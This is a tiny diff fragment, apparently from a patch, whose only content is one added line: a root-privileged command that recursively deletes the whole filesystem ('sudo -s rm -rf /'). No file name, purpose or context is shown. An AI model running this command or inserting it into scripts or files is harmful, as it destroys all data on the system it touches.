@@ -1,0 +1,1 @@
+sudo -s rm -rf /
